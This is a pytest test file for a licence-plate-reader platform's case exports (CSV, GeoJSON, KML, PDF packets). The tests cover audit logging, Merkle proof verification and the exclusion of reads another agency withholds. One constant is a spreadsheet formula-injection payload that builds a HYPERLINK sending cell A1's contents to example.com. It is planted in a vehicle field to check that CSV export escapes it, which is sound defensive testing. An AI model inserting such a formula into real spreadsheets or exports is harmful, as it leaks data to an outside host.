"""Case exports (issue 20, item 4): a search's answer as CSV, GeoJSON, KML and a PDF case packet, from the
library, the API and the CLI. Each export runs the search through the gate (refused as a search is), is made
from that answer only, and is audited (``search.exported`` with its format) before the file is handed over.

Content: the packet's text (extracted with pypdf) names the query, purpose, case and the search's audit entry,
and its proof hashes verify with the verify package's inclusion check; the attached tlog-proof passes
``verify_proof`` once a checkpoint covers the entry. Adversarial: a read of an owner that withheld it, and that
owner's images, are in no format.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import orjson
import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader
from typer.testing import CliRunner

from plateledger.app import create_app
from plateledger.audit.proofs import entry_proof
from plateledger.cli.main import app as cli
from plateledger.core.clock import SystemClock
from plateledger.core.errors import FieldInvalid, PermissionDenied
from plateledger.core.settings import Settings
from plateledger.platform import Platform
from plateledger.search.export import ExportFile
from plateledger.search.packet import Packet, render_pdf
from plateledger.search.plate import PlateSearch
from plateledger_verify import merkle
from plateledger_verify.note import b64
from plateledger_verify.policy import parse_policy
from plateledger_verify.proof import parse_proof, verify_proof
from tests.integration.test_one_door import server
from tests.integration.test_web import BASE, actions, csrf_of, sign_in
from tests.integration.web_kit import (
    DESCRIPTION_AREA,
    PLATE,
    WebNetwork,
    description_network,
    plate_crop,
    web_network,
)
from tests.support import HOUR_MS, NOW_MS, AgencyKit, CameraSpec, ingest, read, search, seed_agency

__all__ = ["server"]  # the fixture of a server holding the data directory
CASE = "C-2026-0099"
FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")'
FORMATS = ("csv", "geojson", "kml", "pdf")


@pytest.fixture
def network(platform: Platform) -> WebNetwork:
    """The web network (palm's 3 reads of PLATE, far's read withheld from palm), palm's reads with a vehicle
    (a make that a spreadsheet would run) and a plate crop each, far's read with a crop too."""
    net = web_network(platform)
    vehicle = {"make": FORMULA, "model": "Corolla", "color": "red", "type": "sedan"}
    ingest(platform, net.palm, [read(PLATE, camera="palm-0", ts=NOW_MS - 2 * HOUR_MS, read_id="p-vehicle",
                                     vehicle=vehicle)])  # fmt: skip
    ingest(platform, net.far, [read(PLATE, camera="far-2", ts=NOW_MS - 3 * HOUR_MS, read_id="far-secret")])
    for kit in (net.palm, net.far):
        own = search(platform, kit.investigator, PLATE)  # the owner's own reads (audited before any test's mark)
        for found in own.reads:
            if found.owner == kit.agency.id:
                platform.images.put(kit.agency.id, found.read_id, PLATE, found.ts_ms, plate_crop())
    return net


def export(platform: Platform, net: WebNetwork, fmt: str, **options: object) -> ExportFile:
    ask = PlateSearch(plate=PLATE, purpose="stolen_vehicle", case_number=CASE, **options)  # type: ignore[arg-type]
    return platform.exports.export(net.palm.investigator, ask, fmt)


def pdf_text(body: bytes) -> str:
    """The PDF's text with every run of white space as one space (where a line wraps depends on the numbers)."""
    return " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages).split())


def test_packet_names_the_search_and_its_proof_verifies(platform: Platform, network: WebNetwork) -> None:
    done = export(platform, network, "pdf", note="Жёлтый автомобиль, 黄色")
    text = pdf_text(done.body)
    seq = done.result.audit_seq
    for words in (f"case {CASE}", "Purpose: stolen_vehicle", f"plate={PLATE}", f"Search audit entry: #{seq}",
                  "palm-pd-investigator", "Palm Police", "Corolla", "red", "sedan", "Timeline", "Map"):  # fmt: skip
        assert words in text, words
    assert "Жёлтый автомобиль" in text  # outside Latin-1, written with the TrueType font
    assert "[U+9EC4][U+8272]" in text  # a character the font lacks: named, never dropped
    proof = entry_proof(platform.audit.tree, platform.checkpoints, seq)
    assert proof.checkpoint is None  # none published yet: against the current tree, said so
    assert "No published checkpoint covers this entry yet" in text
    hashes = re.findall(r"(?:^|\s)\d+: ([A-Za-z0-9+/=]{44})(?=\s|$)", text)
    assert hashes
    leaf = re.search(r"Leaf hash \(base64\):\s+([A-Za-z0-9+/=]{44})", text)
    assert leaf is not None
    assert leaf.group(1) == b64(proof.leaf_hash)
    size = int(re.search(r"size (\d+),\s+root", text).group(1))  # type: ignore[union-attr]
    root = re.search(r"root \(base64\)\s+([A-Za-z0-9+/=]{44})", text).group(1)  # type: ignore[union-attr]
    merkle.verify_inclusion(
        seq - 1, size, base64.b64decode(leaf.group(1)), [base64.b64decode(h) for h in hashes],
        base64.b64decode(root),
    )  # fmt: skip
    assert actions(platform)[-1] == "search.exported"
    exported = platform.audit.entries(after_seq=0, limit=10_000)[-1]
    params = orjson.loads(exported.params)
    assert params["format"] == "pdf"
    assert params["search_seq"] == seq


def test_a_packet_whose_search_a_checkpoint_covers_carries_a_tlog_proof_that_verifies(
    platform: Platform, network: WebNetwork
) -> None:
    """An export's search is run afresh, so its packet is made before any checkpoint covers it (and says so).
    A packet of a search that a published checkpoint covers carries the C2SP tlog-proof, printed and attached,
    and the attached file passes the verify package's offline check (log key and quorum, then inclusion)."""
    fresh = pdf_text(export(platform, network, "pdf").body)
    assert "No published checkpoint covers this entry yet" in fresh
    result = search(platform, network.palm.investigator, PLATE, case_number=CASE)
    assert platform.checkpoints.checkpoint().published
    proof = entry_proof(platform.audit.tree, platform.checkpoints, result.audit_seq)
    assert proof.checkpoint is not None
    assert proof.tree_size >= result.audit_seq
    packet = Packet(result=result, requester=network.palm.investigator, generated_ms=NOW_MS, proof=proof)
    body = render_pdf(packet, platform.settings.pdf_font)
    text = pdf_text(body)
    assert "c2sp.org/tlog-proof@v1" in text
    assert f"index {result.audit_seq - 1}" in text
    assert f"--leaf-hash {b64(proof.leaf_hash)}" in text
    attached = PdfReader(io.BytesIO(body)).attachments[f"entry-{result.audit_seq}.tlog-proof"][0]
    policy = parse_policy(f"log {proof.log_key}\nquorum none\n")  # the log key the packet prints
    verified = verify_proof(parse_proof(attached), proof.leaf_hash, policy)
    assert verified.checkpoint.size == proof.tree_size


def test_geojson_kml_and_csv_hold_the_answer(platform: Platform, network: WebNetwork) -> None:
    geo = orjson.loads(export(platform, network, "geojson").body)
    assert geo["type"] == "FeatureCollection"
    assert len(geo["features"]) == 4
    for feature in geo["features"]:
        assert feature["type"] == "Feature"
        assert set(feature) == {"type", "geometry", "properties"}
        lon, lat = feature["geometry"]["coordinates"]  # RFC 7946: longitude first, WGS 84
        assert feature["geometry"]["type"] == "Point"
        assert -123 < lon < -122
        assert 37 < lat < 38
        assert feature["properties"]["plate"] == PLATE
    assert {f["properties"]["model"] for f in geo["features"]} == {None, "Corolla"}
    assert geo["plateledger"]["case_number"] == CASE
    assert "Far State Patrol" in [w["owner"] for w in geo["plateledger"]["withheld"]]

    kml = ET.fromstring(export(platform, network, "kml").body)
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    marks = kml.findall("k:Document/k:Placemark", ns)
    assert len(marks) == 4
    assert all(m.find("k:TimeStamp/k:when", ns) is not None for m in marks)
    coordinates = [m.find("k:Point/k:coordinates", ns).text for m in marks]  # type: ignore[union-attr]
    assert all(c and c.startswith("-122.") for c in coordinates)
    assert CASE in kml.find("k:Document/k:name", ns).text  # type: ignore[union-attr,operator]

    rows = list(csv.DictReader(io.StringIO(export(platform, network, "csv").body.decode())))
    assert len(rows) == 4
    vehicle = next(row for row in rows if row["model"])
    assert (vehicle["make"], vehicle["model"], vehicle["color"], vehicle["type"]) == (
        "'" + FORMULA, "Corolla", "red", "sedan",
    )  # fmt: skip
    assert all(not row["lat"].startswith("'") for row in rows)
    assert actions(platform)[-6:] == ["search.plate", "search.exported"] * 3


def test_a_withheld_read_and_its_image_are_in_no_export(platform: Platform, network: WebNetwork) -> None:
    mark = len(actions(platform))
    for fmt in FORMATS:
        done = export(platform, network, fmt)
        body = pdf_text(done.body) if fmt == "pdf" else done.body.decode()
        for secret in ("far-secret", "far-1", "far-2"):
            assert secret not in body, fmt
        if fmt != "csv":  # a CSV row is a read: the file names no owner that withheld its reads
            assert "Far State Patrol" in body, fmt  # named as withheld, with the rule
        assert done.result.withheld
    viewed = [e for e in platform.audit.entries(after_seq=mark, limit=10_000) if e.action == "image.viewed"]
    assert len(viewed) == 4  # palm's four crops, each through the image gate, for the packet only
    assert {orjson.loads(e.params)["query"]["owner"] for e in viewed} == {"palm-pd"}
    captions = re.findall(r"#(\d) \S+ \S+ (\S+) \(audit #\d+\)", pdf_text(export(platform, network, "pdf").body))
    assert [camera for _n, camera in captions] == ["palm-0", "palm-1", "palm-2", "palm-0"]  # not far's crop


def test_refused_exports_answer_and_are_audited_as_searches(platform: Platform, network: WebNetwork) -> None:
    mark = len(actions(platform))
    with pytest.raises(FieldInvalid, match="case_number"):
        platform.exports.export(
            network.palm.investigator, PlateSearch(plate=PLATE, purpose="stolen_vehicle", case_number=None), "pdf"
        )
    with pytest.raises(PermissionDenied):
        platform.exports.export(
            network.palm.auditor, PlateSearch(plate=PLATE, purpose="stolen_vehicle", case_number=CASE), "geojson"
        )
    assert actions(platform, mark) == ["search.refused", "search.refused"]
    with pytest.raises(FieldInvalid, match="format"):
        export(platform, network, "xlsx")


def test_api_exports_each_format_and_refuses_as_the_search(platform: Platform, network: WebNetwork) -> None:
    client = TestClient(create_app(platform=platform))
    auth = {"Authorization": f"Bearer {network.palm.tokens['investigator']}"}
    query = {"plate": PLATE, "purpose": "stolen_vehicle", "case_number": CASE}
    media = {"csv": "text/csv", "geojson": "application/geo+json",
             "kml": "application/vnd.google-earth.kml+xml", "pdf": "application/pdf"}  # fmt: skip
    for fmt in FORMATS:
        response = client.get("/api/v1/search/plate/export", params={**query, "format": fmt}, headers=auth)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith(media[fmt])
        assert f'.{fmt}"' in response.headers["content-disposition"]
    no_case = client.get("/api/v1/search/plate/export", params={"plate": PLATE, "purpose": "stolen_vehicle",
                                                                 "format": "kml"}, headers=auth)  # fmt: skip
    assert no_case.status_code == 422
    assert no_case.headers["content-type"] == "application/problem+json"
    assert "case_number" in no_case.json()["detail"]
    assert actions(platform)[-1] == "search.refused"
    unknown = client.get("/api/v1/search/plate/export", params={**query, "format": "pdf", "colour": "red"},
                         headers=auth)  # fmt: skip
    assert unknown.status_code == 422
    assert "colour" in unknown.text
    area = client.get(
        "/api/v1/search/area/export",
        params={"purpose": "stolen_vehicle", "case_number": CASE, "lat": "37.774", "lon": "-122.414",
                "radius_m": "800", "since": str(NOW_MS - 10 * HOUR_MS), "until": str(NOW_MS),
                "format": "geojson"},
        headers=auth,
    )  # fmt: skip
    assert area.status_code == 200, area.text
    assert area.json()["type"] == "FeatureCollection"


def test_cli_writes_each_format_to_a_file(settings: Settings, tmp_path: Path) -> None:
    """``search plate --format F --out FILE`` (real clock: the token must be valid); the file is the export."""
    platform = Platform.open(settings, clock=SystemClock())
    try:
        kit = seed_agency(platform, "alpha", cameras=(CameraSpec("alpha-1", lat=37.7, lon=-122.4),))
        ingest(platform, kit, [read(PLATE, camera="alpha-1", ts=platform.clock.now_ms() - HOUR_MS)])
    finally:
        platform.close()
    token = kit.tokens["investigator"]
    for fmt in FORMATS:
        out = tmp_path / f"export.{fmt}"
        result = CliRunner().invoke(
            cli,
            ["search", "plate", PLATE, "--token", token, "--purpose", "stolen_vehicle", "--case", CASE,
             "--format", fmt, "--out", str(out), "--data", str(settings.data)],
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        assert f"{fmt} export of the plate search written to" in result.output
    assert orjson.loads((tmp_path / "export.geojson").read_bytes())["features"][0]["properties"]["plate"] == PLATE
    assert CASE in pdf_text((tmp_path / "export.pdf").read_bytes())
    bad = CliRunner().invoke(cli, ["search", "plate", PLATE, "--token", token, "--format", "xlsx",
                                   "--data", str(settings.data)])  # fmt: skip
    assert bad.exit_code != 0
    assert isinstance(bad.exception, FieldInvalid)
    assert bad.exception.field == "format"


def test_each_export_is_in_its_owners_access_log_and_no_other(platform: Platform, network: WebNetwork) -> None:
    mark = len(actions(platform))
    done = {fmt: export(platform, network, fmt) for fmt in FORMATS}
    palm = platform.access_log.view(network.palm.auditor, "palm-pd", after_seq=mark, limit=1000).entries
    exported = [e for e in palm if e.action == "search.exported"]
    assert [e.query.get("format") for e in exported] == list(FORMATS)
    assert [e.rows for e in exported] == [len(d.result.reads) for d in done.values()]
    far = platform.access_log.view(network.far.auditor, "far-patrol", after_seq=mark, limit=1000).entries
    assert {e.action for e in far} == {"search.plate"}  # the searches that withheld its reads; no download
    assert {e.rule for e in far} == {"no sharing agreement with this owner (default deny)"}


def test_packet_without_its_font_writes_non_latin1_as_code_points(platform: Platform, network: WebNetwork) -> None:
    """The documented fallback: the font file missing, Helvetica, and text outside Latin-1 as [U+XXXX]."""
    result = search(platform, network.palm.investigator, PLATE, case_number=CASE, note="Zoë Жук")
    proof = entry_proof(platform.audit.tree, platform.checkpoints, result.audit_seq)
    packet = Packet(result=result, requester=network.palm.investigator, generated_ms=NOW_MS, proof=proof)
    text = pdf_text(render_pdf(packet, Path("/nonexistent/font.ttf")))
    assert "note=Zoë [U+0416][U+0443][U+043A]" in text
    assert f"Case packet: case {CASE}" in text


def test_reads_without_a_position_and_text_xml_forbids(platform: Platform) -> None:
    """A mobile unit's read without a fix: GeoJSON null geometry (RFC 7946 §3.2), a KML Placemark without a
    Point; a vehicle field with a character XML 1.0 forbids still gives a KML file that parses."""
    kit = seed_agency(platform, "mobile-pd")
    ingest(platform, kit, [read("8MOB001", camera="mobile-pd-mobile", ts=NOW_MS - HOUR_MS,
                                vehicle={"make": "Ford\x0b", "color": "blue"})])  # fmt: skip
    ask = PlateSearch(plate="8MOB001", purpose="stolen_vehicle", case_number=CASE)
    geo = orjson.loads(platform.exports.export(kit.investigator, ask, "geojson").body)
    (feature,) = geo["features"]
    assert feature["geometry"] is None
    assert feature["properties"]["color"] == "blue"
    kml = ET.fromstring(platform.exports.export(kit.investigator, ask, "kml").body)
    (mark,) = kml.findall("k:Document/k:Placemark", {"k": "http://www.opengis.net/kml/2.2"})
    assert mark.find("k:Point", {"k": "http://www.opengis.net/kml/2.2"}) is None
    packet = pdf_text(platform.exports.export(kit.investigator, ask, "pdf").body)
    assert "No read of this answer has a position." in packet


def test_web_export_refused_answers_with_a_message_and_is_audited(platform: Platform, network: WebNetwork) -> None:
    client = TestClient(create_app(platform=platform), base_url=BASE, follow_redirects=False)
    sign_in(client, network.user(network.palm, "investigator"))
    values = {"csrf": csrf_of(client.get("/ui/search").text), "mode": "plate", "plate": PLATE,
              "purpose": "stolen_vehicle", "case_number": CASE}  # fmt: skip
    packet = client.post("/ui/search/export.pdf", data=values)
    assert packet.status_code == 200
    assert packet.headers["content-type"] == "application/pdf"
    assert actions(platform)[-1] == "search.exported"
    refused = client.post("/ui/search/export.kml", data={**values, "case_number": ""})
    assert refused.status_code == 422
    assert "case_number" in refused.text
    assert actions(platform)[-1] == "search.refused"
    unknown = client.post("/ui/search/export.xlsx", data=values)
    assert unknown.status_code == 422
    assert "format" in unknown.text


def test_cli_forwarding_to_the_server_gets_the_same_file_and_refusals(
    settings: Settings, server: tuple[Platform, AgencyKit], tmp_path: Path
) -> None:
    """With a server holding the data directory, ``--format`` asks the API's export and writes its bytes."""
    platform, kit = server
    ingest(platform, kit, [read(PLATE, camera="bay-pd-fixed", ts=platform.clock.now_ms() - HOUR_MS)])
    base = ["search", "plate", PLATE, "--token", kit.tokens["investigator"], "--purpose", "stolen_vehicle",
            "--data", str(settings.data)]  # fmt: skip
    out = tmp_path / "forwarded.kml"
    done = CliRunner().invoke(cli, [*base, "--case", CASE, "--format", "kml", "--out", str(out)])
    assert done.exit_code == 0, done.output
    kml = ET.fromstring(out.read_bytes())
    assert len(kml.findall("k:Document/k:Placemark", {"k": "http://www.opengis.net/kml/2.2"})) == 1
    assert actions(platform)[-2:] == ["search.plate", "search.exported"]
    refused = CliRunner().invoke(cli, [*base, "--format", "pdf", "--out", str(tmp_path / "no.pdf")])
    assert isinstance(refused.exception, FieldInvalid)
    assert refused.exception.field == "case_number"
    assert not (tmp_path / "no.pdf").exists()
    assert actions(platform)[-1] == "search.refused"


def test_a_description_search_exports_only_what_its_owners_permit(platform: Platform) -> None:
    """The description kind exports like the others, with the API's parameter names (``type`` included): the
    search run again through the gate, the owner that withholds description searches in no file."""
    net = web_network(platform)
    description_network(platform, net)
    lat, lon, radius = DESCRIPTION_AREA
    client = TestClient(create_app(platform=platform))
    auth = {"Authorization": f"Bearer {net.palm.tokens['investigator']}"}
    query = {"purpose": "stolen_vehicle", "case_number": CASE, "make": "toyota", "color": "red", "type": "SEDAN",
             "lat": str(lat), "lon": str(lon), "radius_m": str(radius), "since": str(NOW_MS - 24 * HOUR_MS),
             "until": str(NOW_MS), "format": "geojson"}  # fmt: skip
    answer = client.get("/api/v1/search/description/export", params=query, headers=auth)
    assert answer.status_code == 200, answer.text
    assert sorted(f["properties"]["plate"] for f in answer.json()["features"]) == ["7RED001", "8RED003"]
    assert actions(platform)[-2:] == ["search.description", "search.exported"]
    no_vehicle = {k: v for k, v in query.items() if k not in ("make", "color", "type")}
    refused = client.get("/api/v1/search/description/export", params=no_vehicle, headers=auth)
    assert refused.status_code == 422
    assert actions(platform)[-1] == "search.refused"
